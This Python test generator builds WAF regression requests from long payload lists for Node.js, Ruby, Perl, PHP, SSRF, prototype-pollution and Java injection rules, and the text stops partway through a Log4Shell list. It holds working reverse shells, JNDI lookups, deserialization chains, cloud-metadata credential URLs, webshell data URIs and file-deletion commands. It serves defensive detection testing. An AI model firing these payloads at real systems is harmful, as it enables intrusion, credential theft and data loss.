"""Blind positive tests for the generic (934), Java (944) and server-side template injection families, written
as an eighth author of the CRS 3.3.4 request-rule titles (and the request-rule titles CRS 4.x added at paranoia
levels 1-2), from the titles alone.

The angle: for each detection title, the payloads a careful rule author writes as the rule's positive
regression tests: the canonical attack the title names, one test per alternative the title's family covers
(every module, class, method, gadget, scheme, cloud, address notation or template engine of that family), and
the variants a good rule must still catch (other quoting, whitespace and comment substitutes, concatenation,
casing where the target language ignores it, and the encodings a server decodes: URL, double URL, XML/HTML
entities, unicode escapes in JSON).

Families and sub-families (one sub-family per title; SSTI one per template engine):
- generic: nodejs-injection (Node.js Injection Attack, 1/2: modules and the process object),
  nodejs-injection-code (2/2: code-building constructs), ssrf-cloud-metadata, ssrf-ip-address,
  prototype-pollution, ruby-injection, perl-injection, nodejs-dos, php-data-scheme.
- java: java-class-rce (944100), java-process-spawn (944110), java-serialization-rce (944120),
  java-suspicious-class (944130), java-magic-bytes (944200), java-magic-bytes-base64 (944210),
  java-serialization-gadgets (944240), java-suspicious-method (944250), log4shell, java-class-loading,
  java-script-upload.
- ssti: ssti-jinja2, ssti-twig, ssti-freemarker, ssti-velocity, ssti-thymeleaf, ssti-erb, ssti-smarty,
  ssti-handlebars, ssti-pug.

Placements: every payload is sent twice. Once to one of our real routes (query of /api/users, the admin search
form with its csrf_token, JSON of /api/users, a Slack event, PATCH /api/users/42, the /me/settings form, a cookie,
the User-Agent, the Referer, X-Api-Version, a parameter name, an XML body, a multipart field or file name, the URL
path), and once the way a WAF's regression suite sends it: to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter names, as a query string, a form body,
a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent, the Referer, a custom
header or a cookie (placements prefixed "rs-"). Payload shapes that only live in one kind of place (parameter
names, whole JSON or XML documents, file names, cookie names, JSON unicode escapes, pre-encoded wire forms) go to
the places of that kind only.

The benign half (about as many requests) carries the same words innocently: Slack messages and bios of developers
talking about Java, Node, Ruby, Perl, templates and cloud metadata, searches, names and street addresses, email
templates with placeholders, documentation links, ordinary client User-Agents, uploads, settings.

Authorship and independence: written from general knowledge and the titles alone; no rule, engine source,
ruleset regression test, other blind set or public payload list was read. Measured once on unchanged code;
the payloads were not changed after the measurement. Deterministic (one seeded random source, no clock).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen_blind_php import chat_and_bio
from .records import Seeded, print_records

NAME = "eightieth"

# An entry: a payload (plain text), or (payload, kind) for payloads that only live in one kind of place:
#   pre      the wire form, already percent-encoded (URL or double URL); goes where a server URL-decodes it
#   ju       the raw content of a JSON string, with \\u escapes the JSON parser decodes
#   qs       a raw `name=value` query-string fragment whose name is the attack (parameter names)
#   jsondoc  a whole JSON document (keys are the attack)
#   xmldoc   a whole XML document
#   xmlent   text with XML character references, inserted unescaped into an XML element
#   cookie   a raw `name=value` cookie pair whose name is the attack
# or (file name, "upload", file content) for file uploads.
Entry = str | tuple[str, str] | tuple[str, str, str]


def _bytes_pre(raw: bytes) -> str:
    """Bytes as a browser percent-encodes them (letters and digits kept)."""
    return urllib.parse.quote_from_bytes(raw, safe="")


HASHMAP = bytes.fromhex("aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d103000246000a6c6f6164"
                        "466163746f724900097468726573686f6c647870")
PRIORITY_QUEUE = (b"\xac\xed\x00\x05sr\x00\x17java.util.PriorityQueue\x94\xda0\xb4\xfb?\x82\xb1\x03\x00\x02I\x00"
                  b"\x04sizeL\x00\ncomparatort\x00\x16Ljava/util/Comparator;xp\x00\x00\x00\x02")
INVOKER = b"\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer"
AIH = (b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00"
       b"\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;")
STRING_TEST = b"\xac\xed\x00\x05t\x00\x04test"
OBJECT_ARRAY = b"\xac\xed\x00\x05ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp\x00\x00\x00\x01"
BLOCK_DATA = b"\xac\xed\x00\x05w\x04\x00\x00\x00\x01"

# ---------------------------------------------------------------------------------------------------- generic
NODE_MODULES: list[Entry] = [
    "require('child_process').exec('id')",
    "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()",
    "require('child_process').spawn('/bin/sh', ['-c', 'id'])",
    "require('child_process').spawnSync('ls', ['-la', '/']).stdout.toString()",
    "require('child_process').execFile('/usr/bin/id', function(e, out){ res.end(out) })",
    "require('child_process').fork('/tmp/x.js')",
    "process.mainModule.require('child_process').execSync('whoami')",
    "global.process.mainModule.constructor._load('child_process').exec('id')",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})",
    "require('fs').readFileSync('/etc/passwd', 'utf8')",
    "require('fs').writeFileSync('/var/www/html/x.js', 'module.exports=1')",
    "(function(){var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);"
    "var c=new net.Socket();c.connect(4444,'203.0.113.5',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);"
    "sh.stderr.pipe(c);});return /a/;})()",
    "require('child'+'_process').exec('id')",
    "require(`child_process`).exec(`id`)",
    "require ( 'child_process' ) . execSync ( 'id' )",
    "require/**/('child_process')/**/.exec('id')",
    "require('\\x63hild_process').exec('id')",
    "import('child_process').then(cp => cp.execSync('id'))",
    ("require%28%27child_process%27%29.exec%28%27id%27%29", "pre"),
    ("require%2528%2527child_process%2527%2529.execSync%2528%2527id%2527%2529", "pre"),
    ("\\u0072equire('\\u0063hild_process').exec('id')", "ju"),
]

NODE_CODE: list[Entry] = [
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString())",
    "eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41))",
    "new Function('return process.env')()",
    "Function('return this')().process.exit()",
    "[].constructor.constructor(\"return process\")().exit()",
    "''.constructor.constructor('return global.process.env')()",
    "setTimeout(\"process.exit(1)\", 0)",
    "setInterval('require(\"fs\").rmSync(\"/tmp/app\",{recursive:true})', 1000)",
    "require('vm').runInNewContext('this.constructor.constructor(\"return process\")().exit()')",
    "vm.runInThisContext('process.mainModule.require(\"fs\")')",
    "new vm.Script('process.exit()').runInThisContext()",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id', function(e, o){ console.log(o) })}()",
    "{\"__js_function\":\"function(){process.mainModule.require('child_process').exec('id')}\"}",
    "res.end(require('fs').readdirSync('.').toString())",
    "Reflect.construct(Function, ['return process'])().exit()",
    "(async()=>{}).constructor('return process')()",
    "global['ev'+'al']('process.exit()')",
    "this['constructor']['constructor']('return process')()",
    ("eval%28%22process.kill%28process.pid%29%22%29", "pre"),
    ("\\u0065val('process.exit()')", "ju"),
]

NODE_DOS: list[Entry] = [
    "while(true){}",
    "while(1);",
    "for(;;){}",
    "for(;;);",
    "do{}while(true)",
    "while (true) { }",
    "while(!0){}",
    "while(1==1){}",
    "for(var i=0;;i++){}",
    "while/**/(true)/**/{}",
    "Array(1e9).fill(0).join()",
    "'x'.repeat(2**30)",
    "process.kill(process.pid)",
    "const a=[];while(true){a.push(Buffer.alloc(1e6))}",
    "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')",
    ("while%28true%29%7B%7D", "pre"),
    ("while(tr\\u0075e){}", "ju"),
]

PROTO: list[Entry] = [
    ("__proto__[isAdmin]=true", "qs"),
    ("__proto__.isAdmin=true", "qs"),
    ("constructor[prototype][isAdmin]=true", "qs"),
    ("constructor.prototype.isAdmin=true", "qs"),
    ("user[__proto__][role]=admin", "qs"),
    ("a[constructor][prototype][polluted]=1", "qs"),
    ("%5F%5Fproto%5F%5F%5BisAdmin%5D=true", "qs"),
    ("filter%5B__proto__%5D%5Badmin%5D=1", "qs"),
    ("{\"__proto__\":{\"isAdmin\":true}}", "jsondoc"),
    ("{\"name\":\"Ann\",\"settings\":{\"__proto__\":{\"role\":\"admin\"}}}", "jsondoc"),
    ("{\"constructor\":{\"prototype\":{\"isAdmin\":true}}}", "jsondoc"),
    ("{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"admin\":1}}", "jsondoc"),
    ("{\"__proto__\":{\"outputFunctionName\":\"_tmp1;global.process.mainModule.require('child_process')"
     ".execSync('id');var __tmp2\"}}", "jsondoc"),
    ("{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process')"
     ".execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}", "jsondoc"),
    ("{\"path\":\"__proto__.polluted\",\"value\":\"yes\"}", "jsondoc"),
    "Object.prototype.isAdmin = true",
    "x.__proto__.polluted = 1",
    "Object.assign(Object.prototype, {admin: true})",
]

SSRF_METADATA: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management"
    ".azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://192.0.0.192/latest/attributes/",
    "http://169.254.170.2/v2/credentials/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://metadata.tencentyun.com/latest/meta-data/",
    "http://instance-data/latest/meta-data/",
    "http://169.254.169.254/hetzner/v1/metadata",
    "HTTP://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/?recursive=true",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    ("http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "pre"),
    ("http%253A%252F%252Fmetadata.google.internal%252FcomputeMetadata%252Fv1%252F", "pre"),
]

SSRF_IP: list[Entry] = [
    "http://127.0.0.1:8080/admin",
    "http://127.1/",
    "http://0.0.0.0:6379/",
    "http://0/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.01/",
    "http://0x7f.0.0.1/server-status",
    "http://017700000001/",
    "http://[::1]:8080/",
    "http://[::ffff:127.0.0.1]/",
    "http://[0:0:0:0:0:ffff:7f00:1]/",
    "http://[::]:80/",
    "http://[fe80::1%25eth0]/",
    "http://10.0.0.5/actuator/env",
    "http://192.168.0.1/cgi-bin/luci",
    "http://172.17.0.1:2375/containers/json",
    "https://203.0.113.50/collect.php",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "dict://127.0.0.1:11211/stat",
    "ftp://10.1.1.1/pub/",
    "http://user:pw@127.0.0.1:22/",
    "HtTp://127.0.0.1/",
    ("http%3A%2F%2F127.0.0.1%3A8080%2F", "pre"),
]

PHP_DATA: list[Entry] = [
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data:;base64,PD9waHAgZWNobyBzaGVsbF9leGVjKCdpZCcpOyA/Pg==",
    "data:application/x-httpd-php;base64,PD9waHAgZXZhbCgkX1BPU1RbMF0pOz8+",
    "DATA://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "data://text/plain;charset=utf-8,<?php system('id');?>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:,<?php system('id');?>",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+&c=id",
    "data:image/png;base64,PD9waHAgcGFzc3RocnUoJF9SRVFVRVNUWyd4J10pOyA/Pg==",
    "php://filter/convert.base64-decode/resource=data://text/plain;base64,UEQ5d2FIQWdjR2h3YVc1bWJ5Z3BPeUEvUGc9PQ==",
    "Data:Text/Plain;Base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    ("data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHAgcGhwaW5mbygpOyA%2FPg%3D%3D", "pre"),
    ("data%253A%252F%252Ftext%252Fplain%253Bbase64%252CPD9waHAgc3lzdGVtKCdpZCcpOz8%252B", "pre"),
]

RUBY: list[Entry] = [
    "Kernel.system('id')",
    "Kernel.exec(\"cat /etc/passwd\")",
    "%x(id)",
    "%x{cat /etc/passwd}",
    "\"#{`id`}\"",
    "IO.popen('id').read",
    "Open3.capture2e('uname -a')",
    "Process.spawn('/bin/sh -c id')",
    "instance_eval(\"system('id')\")",
    "Object.const_get(:Kernel).send(:system, 'id')",
    "1.public_send(:instance_eval, 'system(%q(id))')",
    "open('|id').read",
    "File.read('/etc/passwd')",
    "--- !ruby/object:Gem::Installer\ni: x\n",
    "Marshal.load(Base64.decode64(params[:data]))",
    "ERB.new('<%= `id` %>').result(binding)",
    "Class.new.class_eval('def x; `id`; end')",
    "require 'socket';s=TCPSocket.open('203.0.113.5',4444);$stdin.reopen(s);exec('/bin/sh -i')",
    ("Kernel%2Esystem%28%27id%27%29", "pre"),
    ("Kernel.\\u0073ystem('id')", "ju"),
]

PERL: list[Entry] = [
    "@{[system \"id\"]}",
    "@{[ `cat /etc/passwd` ]}",
    "${\\ system('id')}",
    "system(\"id\");",
    "exec '/bin/sh';",
    "qx{id}",
    "qx/uname -a/",
    "open(my $fh, \"|id\");",
    "open(F, \"cat /etc/passwd|\");",
    "/bin/ls -la|",
    "eval \"system('id')\";",
    "perl -e 'print `id`'",
    "use Socket;$i=\"203.0.113.5\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};",
    "do '/tmp/x.pl';",
    "print readpipe('id');",
    "unlink glob('/var/www/*');",
    ("%40%7B%5Bsystem%20%22id%22%5D%7D", "pre"),
    ("@\\u007b[system \\\"id\\\"]\\u007d", "ju"),
]

# ------------------------------------------------------------------------------------------------------- java
JAVA_CLASS_RCE: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"id\")",
    "new java.lang.ProcessBuilder(\"id\").start()",
    "@java.lang.Runtime@getRuntime().exec('id')",
    "(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\", String[].class, java.util.Map.class,"
    " String.class, java.lang.ProcessBuilder.Redirect[].class, boolean.class)",
    "Class.forName('java.lang.UNIXProcess')",
    "java.lang.System.getenv()",
    "new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('java.lang.Runtime.getRuntime()"
    ".exec(\"id\")')",
    "java.lang.Thread.sleep(10000)",
    "Java.Lang.Runtime.getRuntime().exec('id')",
    "java.lang.Runtime .getRuntime() .exec('id')",
    "<%= new java.util.Scanner(java.lang.Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\")"
    ".next() %>",
    "${java.lang.Runtime.getRuntime().exec('id')}",
    "java.lang.System.exit(0)",
    ("java%2Elang%2ERuntime%2EgetRuntime%28%29%2Eexec%28%22id%22%29", "pre"),
    ("java.lang.\\u0052untime.getRuntime().exec(\\\"id\\\")", "ju"),
]

XSTREAM_9805 = (
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind"
    ".v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml."
    "XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\">"
    "<initialized>false</initialized><opmode>0</opmode><serviceIterator class=\"javax.imageio.spi.FilterIterator\">"
    "<iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next "
    "class=\"java.lang.ProcessBuilder\"><command><string>/bin/sh</string><string>-c</string><string>id</string>"
    "</command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class=\"javax.imageio."
    "ImageIO$ContainsFilter\"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/>"
    "</method><name>foo</name></filter><next class=\"string\">foo</next></serviceIterator><lock/></cipher><input "
    "class=\"java.lang.ProcessBuilder$NullInputStream\"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart>"
    "<ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/>"
    "</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal."
    "objects.NativeString reference=\"../jdk.nashorn.internal.objects.NativeString\"/></entry></map>"
)
WEBLOGIC_10271 = (
    "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext "
    "xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8.0_151\" class=\"java.beans.XMLDecoder\">"
    "<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>"
    "/bin/bash</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void>"
    "</array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body/>"
    "</soapenv:Envelope>"
)
JAVA_SPAWN: list[Entry] = [
    (XSTREAM_9805, "xmldoc"),
    ("<java.lang.ProcessBuilder><command><string>calc.exe</string></command></java.lang.ProcessBuilder>", "xmldoc"),
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\""
     "java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command>"
     "</target><action>start</action></handler></dynamic-proxy></sorted-set>", "xmldoc"),
    ("<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\">"
     "<void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java>", "xmldoc"),
    (WEBLOGIC_10271, "xmldoc"),
    "new ProcessBuilder(\"bash\", \"-c\", \"id\").start()",
    "new java.lang.ProcessBuilder(new String[]{\"cmd.exe\", \"/c\", \"whoami\"}).start()",
    "ProcessBuilder pb = new ProcessBuilder(\"sh\", \"-c\", cmd); pb.redirectErrorStream(true); pb.start();",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\", \"-c\", \"id\"})",
    "%{(#p=new java.lang.ProcessBuilder({'id'})).(#p.redirectErrorStream(true)).(#process=#p.start())}",
    "Runtime.getRuntime().exec(\"cmd.exe /c dir\")",
    "new ProcessBuilder ( \"id\" ) . start ( )",
    "\"id\".execute().text",
    "['sh', '-c', 'id'].execute()",
    ("new%20java.lang.ProcessBuilder%28%22id%22%29.start%28%29", "pre"),
    ("new \\u0050rocessBuilder(\\\"id\\\").start()", "ju"),
    ("&lt;java.lang.ProcessBuilder&gt;&lt;command&gt;&lt;string&gt;id&lt;/string&gt;&lt;/command&gt;"
     "&lt;/java.lang.ProcessBuilder&gt;", "xmlent"),
]

JAVA_SER_RCE: list[Entry] = [
    "org.apache.commons.collections.functors.InvokerTransformer",
    "ChainedTransformer(new Transformer[]{new ConstantTransformer(Runtime.class), new InvokerTransformer(\"getMethod\","
    " new Class[]{String.class, Class[].class}, new Object[]{\"getRuntime\", new Class[0]}), new InvokerTransformer("
    "\"invoke\", new Class[]{Object.class, Object[].class}, new Object[]{null, new Object[0]}), new "
    "InvokerTransformer(\"exec\", new Class[]{String.class}, new Object[]{\"id\"})})",
    "org.apache.commons.collections4.functors.InstantiateTransformer com.sun.org.apache.xalan.internal.xsltc.trax"
    ".TrAXFilter",
    "org.apache.commons.collections.map.LazyMap sun.reflect.annotation.AnnotationInvocationHandler",
    "org.apache.commons.collections.keyvalue.TiedMapEntry javax.management.BadAttributeValueExpException",
    "org.apache.commons.beanutils.BeanComparator java.util.PriorityQueue outputProperties",
    "org.apache.commons.collections.functors.CloneTransformer",
    "org.apache.commons.collections.functors.ForClosure",
    "org.apache.commons.collections.functors.WhileClosure",
    "org.apache.commons.collections.functors.InstantiateFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeCloneFactory",
    "org.apache.commons.collections.functors.PrototypeFactory$PrototypeSerializationFactory",
    ("<org.apache.commons.collections.functors.InvokerTransformer><iMethodName>exec</iMethodName><iParamTypes>"
     "<java-class>java.lang.String</java-class></iParamTypes><iArgs><string>id</string></iArgs>"
     "</org.apache.commons.collections.functors.InvokerTransformer>", "xmldoc"),
    INVOKER.hex(),
    "t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n",
    (_bytes_pre(INVOKER + b"\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x03[\x00\x05iArgst\x00\x13[Ljava/lang/Object;"),
     "pre"),
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl _bytecodes _tfactory getOutputProperties",
    "org.codehaus.groovy.runtime.ConvertedClosure org.codehaus.groovy.runtime.MethodClosure execute",
    ("org.apache.commons.collections.functors.\\u0049nvokerTransformer", "ju"),
]

JAVA_CLASS: list[Entry] = [
    "com.opensymphony.xwork2.ActionContext",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println('x')}",
    "@org.apache.struts2.ServletActionContext@getResponse().getWriter()",
    "javax.script.ScriptEngineManager",
    "java.beans.XMLDecoder",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Exploit\","
    "\"autoCommit\":true}",
    "javax.naming.InitialContext",
    "java.net.URLClassLoader",
    "[\"org.springframework.context.support.ClassPathXmlApplicationContext\", \"http://attacker.example/spel.xml\"]",
    "org.codehaus.groovy.runtime.MethodClosure",
    "bsh.Interpreter",
    "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm)",
    "java.io.FileOutputStream",
    "{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":\"com.sun.org.apache"
    ".bcel.internal.util.ClassLoader\"},\"driverClassName\":\"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A\"}",
    "ch.qos.logback.core.db.JNDIConnectionSource",
    "com.sun.jndi.rmi.registry.ReferenceWrapper",
    ("java%2Ebeans%2EXMLDecoder", "pre"),
    ("javax.naming.\\u0049nitialContext", "ju"),
]

JAVA_MAGIC: list[Entry] = [
    (_bytes_pre(HASHMAP), "pre"),
    (_bytes_pre(STRING_TEST).lower(), "pre"),
    (_bytes_pre(OBJECT_ARRAY), "pre"),
    (_bytes_pre(BLOCK_DATA), "pre"),
    (_bytes_pre(AIH), "pre"),
    (_bytes_pre(PRIORITY_QUEUE), "pre"),
    ("x" + _bytes_pre(HASHMAP[:24]), "pre"),
    (_bytes_pre(HASHMAP[:4]), "pre"),
    (_bytes_pre(HASHMAP).replace("%", "%25"), "pre"),
    ("\\u00ac\\u00ed\\u0000\\u0005sr\\u0000\\u0011java.util.HashMap", "ju"),
    HASHMAP.hex().upper(),
    HASHMAP.hex(),
    "ac ed 00 05 73 72 00 11 6a 61 76 61 2e 75 74 69 6c 2e 48 61 73 68 4d 61 70",
    "0xACED00057372",
    "\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap",
]

JAVA_MAGIC_B64: list[Entry] = [
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    "rO0ABXQABHRlc3Q=",
    "rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAE=",
    "rO0ABXcEAAAAAQ==",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAAC",
    "rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVy",
    "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlclXK9Q8Vy36lAgACTAAMbWVtYmVy"
    "VmFsdWVzdAAPTGphdmEvdXRpbC9NYXA7",
    "AKztAAVzcgARamF2YS51dGlsLkhhc2hNYXAFB9rBwxZg0QMAAkYACmxvYWRGYWN0b3JJAAl0aHJlc2hvbGR4cA==",
    "AACs7QAFc3IAEWphdmEudXRpbC5IYXNoTWFwBQfawcMWYNEDAAJGAApsb2FkRmFjdG9ySQAJdGhyZXNob2xkeHA=",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAK\nbG9hZEZhY3RvckkACXRocmVzaG9sZHhw",
    ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0Nv"
     "bXBhcmF0b3I7eHAAAAAC".replace("+", "%2B").replace("/", "%2F"), "pre"),
    ("rO0ABXQABHRlc3Q%253D", "pre"),
    ("javax.faces.ViewState=rO0ABXVyABNbTGphdmEubGFuZy5PYmplY3Q7kM5YnxBzKWwCAAB4cAAAAAE%3D", "qs"),
    ("rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw", "cookie"),
    ("r\\u004f0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAK", "ju"),
    "data:application/x-java-serialized-object;base64,rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC",
]

JAVA_GADGETS: list[Entry] = [
    "org.apache.commons.collections.functors.ChainedTransformer java.lang.Runtime getRuntime exec",
    "org.apache.commons.collections.functors.ConstantTransformer java.lang.ProcessBuilder start",
    "javax.management.BadAttributeValueExpException val org.apache.commons.collections.keyvalue.TiedMapEntry",
    "org.python.core.PyFunction org.python.core.PyBytecode",
    "com.sun.syndication.feed.impl.ObjectBean com.sun.syndication.feed.impl.ToStringBean",
    "org.hibernate.tuple.component.PojoComponentTuplizer org.hibernate.engine.spi.TypedValue",
    "org.apache.wicket.util.upload.DiskFileItem repository /var/www/html",
    "com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase connectionPoolDataSource",
    "org.apache.click.control.Column$ColumnComparator",
    "com.vaadin.data.util.PropertysetItem com.vaadin.data.util.NestedMethodProperty",
    "net.sf.json.JSONObject java.util.HashMap com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "org.springframework.aop.framework.JdkDynamicAopProxy "
    "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
    "org.apache.commons.fileupload.disk.DiskFileItem",
    "bsh.XThis bsh.NameSpace java.util.Comparator",
    "java.net.URL java.util.HashMap hashCode http://x.attacker.example",
    "org.jboss.interceptor.proxy.InterceptorMethodHandler",
    ("org.apache.commons.collections.functors.ChainedTransformer%00%00%00%00%00%00%00%00%01%02%00%01%5B%00"
     "%0DiTransformerst%00-%5BLorg%2Fapache%2Fcommons%2Fcollections%2FTransformer%3B", "pre"),
    ("org.hibernate.\\u0074uple.component.PojoComponentTuplizer", "ju"),
]

JAVA_METHOD: list[Entry] = [
    "Runtime.getRuntime().exec(\"id\")",
    "Class.forName(\"java.lang.Runtime\")",
    "rt.getClass().getMethod(\"exec\", String.class).invoke(rt, \"id\")",
    "c.getDeclaredMethod(\"getRuntime\").setAccessible(true)",
    "Class.forName(name).newInstance()",
    "this.getClass().getClassLoader().loadClass(\"Exploit\")",
    "defineClass(\"Evil\", bytes, 0, bytes.length)",
    "clazz.getDeclaredConstructor().newInstance()",
    "x.getClass().getProtectionDomain().getCodeSource().getLocation()",
    "new javax.naming.InitialContext().lookup(\"ldap://attacker.example:1389/a\")",
    "Thread.currentThread().getContextClassLoader()",
    "System.getProperty(\"user.dir\")",
    "p.getInputStream()",
    "m . invoke ( null , new Object [ 0 ] )",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null)}",
    "#{request.getServletContext().getRealPath('/')}",
    ("Class.forName%28%22java.lang.Runtime%22%29.getMethod%28%22exec%22%2CString.class%29", "pre"),
    ("Class.\\u0066orName(\\\"java.lang.Runtime\\\")", "ju"),
]

LOG4J: list[Entry] = [
    "${jndi:ldap://203.0.113.9:1389/a}",
    "${jndi:rmi://attacker.example:1099/Exploit}",
    "${jndi:dns://attacker.example/a}",
    "${jndi:ldaps://attacker.example/a}",
    "${jndi:iiop://attacker.example/a}",
    "${jndi:corba://attacker.example/a}",
    "${jndi:nis://attacker.example/a}",
